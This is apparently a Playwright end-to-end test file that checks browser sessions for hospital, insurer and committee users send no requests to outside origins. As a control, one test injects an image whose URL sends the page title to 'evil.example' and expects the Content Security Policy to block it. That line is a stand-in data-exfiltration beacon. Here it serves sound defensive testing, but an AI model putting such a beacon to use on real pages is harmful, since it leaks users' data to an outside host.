import { afterAll, beforeAll, expect, it } from 'vitest';
import { needs } from '../support/programs.js';
import { openWorld, type World } from '../world/world.js';
import { openDesks, type Desk, type Desks, type House } from './desk.js';

/** Somebody of each house, and a page of theirs behind the door. */
const PEOPLE: readonly (readonly [House, string, string])[] = [
  ['hospital', 'pro', '/complaints'],
  ['insurer', 'adj', '/claims'],
  ['committee', 'med', '/mediations'],
];

needs('chromium', 'a browser before the house', () => {
  let world: World;
  let desks: Desks;
  beforeAll(async () => {
    world = await openWorld({ demo: true });
    desks = await openDesks(world);
  });
  afterAll(async () => {
    await desks?.close();
    await world?.stop();
  });

  /** Places that a desk's browser asked for, besides the house; also what was let only be tried, such as a name looked up. */
  async function watched(desk: Desk): Promise<() => readonly string[]> {
    const asked: string[] = [];
    await desk.context.route(
      (url) => url.origin !== new URL(desk.line.url).origin && !['data:', 'blob:'].includes(url.protocol),
      async (route) => {
        asked.push(route.request().url());
        await route.abort();
      },
    );
    return () => [...asked, ...desk.faults.filter((fault) => /^(asked|connected to) (?!blob:)/.test(fault))];
  }

  it.each(PEOPLE)(
    'asks nobody else for anything at the %s, from the door to a desk and back',
    async (house, account, page) => {
      const desk = await desks.open({ house });
      const outside = await watched(desk);
      await desk.go('/sign-in');
      await desk.signIn(account);
      for (const route of ['/', page, '/nowhere']) {
        await desk.go(route);
        await desk.settled();
      }
      expect(outside()).toEqual([]);
      expect(desk.recording.count('asked')).toBeGreaterThan(10);
      // A control: what is asked of another place is seen here, and it is the policy of the page that stops it.
      const blocked = desk.page.waitForEvent(
        'console',
        (line) => line.type() === 'error' && /evil\.example/.test(line.text()),
      );
      await desk.page.evaluate(() => {
        const picture = document.createElement('img');
        picture.src = 'https://evil.example/pixel.gif?' + document.title;
        document.body.append(picture);
      });
      expect((await blocked).text()).toMatch(/Content Security Policy/);
      await desk.context.close();
    },
  );

  it('asks nobody else for anything at the front page and in the explorer', async () => {
    const desk = await desks.open();
    const outside = await watched(desk);
    await desk.page.goto(`${desk.line.url}/`);
    await desk.page.locator('form').first().waitFor();
    await desk.page.goto(`${desk.line.url}/explorer/?with=token`);
    await desk.page.locator('.CodeMirror, .cm-editor').first().waitFor();
    await desk.page.waitForLoadState('networkidle');
    expect(outside()).toEqual([]);
    await desk.context.close();
  });
});
